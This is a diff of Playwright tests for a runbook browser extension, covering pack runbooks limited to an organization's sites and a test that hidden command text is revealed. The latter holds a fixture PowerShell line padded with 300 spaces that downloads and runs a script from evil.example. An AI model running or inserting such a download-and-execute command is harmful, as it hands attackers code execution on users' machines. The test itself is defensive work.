@@ -4,7 +4,7 @@ import type { Page } from '@playwright/test';
 import { E2E_EXTENSION } from '../server/launch-chromium';
 import { sampleRunbook } from '../library/sample-runbook';
 import { expect, HOSTS, panel, test } from './fixtures';
-import { openOptions, packItem } from './pages/options';
+import { importAcmePack, nameOrgSites, openOptions, packItem } from './pages/options';
 import { acmePack, jsonFile, PACK_NAME } from './pages/packs';
 import { startPackServer } from '../server/pack-server';
 
@@ -12,6 +12,8 @@ import { startPackServer } from '../server/pack-server';
 // built extension.
 
 const VPN = '57af7aec73d423002728660c4cf6a71c';
+/** "Request for a second monitor arm for the reception desk": the Acme pack's desk runbook fits it. */
+const MONITOR_ARM = '46d44a5dc0a8010e0004a8f7a4d4e1a5';
 /** Same fixture server, another organization's tenant name (the resolver maps every *.service-now.com). */
 const FOREIGN = 'globex.service-now.com';
 
@@ -74,6 +76,34 @@ test("with the organization's sites set, the panel runs on them and not on anoth
   await expect(options.getByTestId('org-sites')).toHaveValue(`${HOSTS.servicenow}\n*.${HOSTS.jira}`);
 });
 
+test("pack runbooks show only on the organization's sites; unset, the panel shows the bundled ones", async ({
+  context,
+  extensionId,
+  page,
+  server,
+}) => {
+  const options = await openOptions(context, extensionId);
+  await importAcmePack(options);
+  await expect(options.getByTestId('org-sites-unset')).toBeVisible();
+  // The pack's desk runbook is what this request needs; on a tenant not named as the organization's,
+  // neither search nor the page can find it or the pack's name.
+  await open(page, server.origin(HOSTS.servicenow), MONITOR_ARM);
+  const p = panel(page);
+  await expect(p.getByTestId('no-match')).toBeVisible();
+  await p.getByTestId('search').fill('monitor arm reception');
+  await expect(p.getByTestId('search-result').first()).toBeVisible(); // the bundled ones are searched
+  await expect(p.locator('[data-testid="search-result"][data-runbook-id="acme-desk-equipment"]')).toHaveCount(0);
+  await expect(page.locator('runbook-lens')).not.toContainText(PACK_NAME);
+
+  await nameOrgSites(options);
+  await page.bringToFront();
+  // Named: the same open panel now has the pack (no reload).
+  const result = p.locator('[data-testid="search-result"][data-runbook-id="acme-desk-equipment"]');
+  await expect(result).toHaveCount(1);
+  await result.click();
+  await expect(p.getByTestId('runbook-source')).toHaveText(`Pack: ${PACK_NAME}`);
+});
+
 test('tree answers and votes stay with the tenant; "Forget stored ticket data" clears them', async ({
   context,
   extensionId,
@@ -124,6 +154,7 @@ test('a command cannot hide its end: 300 spaces then more code wrap into sight',
   runbook.tree.nodes.q3!.options[1] = { label: 'No', outcome: { type: 'resolved', step: 'fix' } };
   runbook.commands![0]!.code = `Get-Date${' '.repeat(300)}; iex (irm https://evil.example/x.ps1)`;
   const options = await openOptions(context, extensionId);
+  await nameOrgSites(options);
   await options
     .getByTestId('pack-file')
     .setInputFiles(jsonFile('tail.json', { schemaVersion: 1, name: 'Tail', runbooks: [runbook] }));
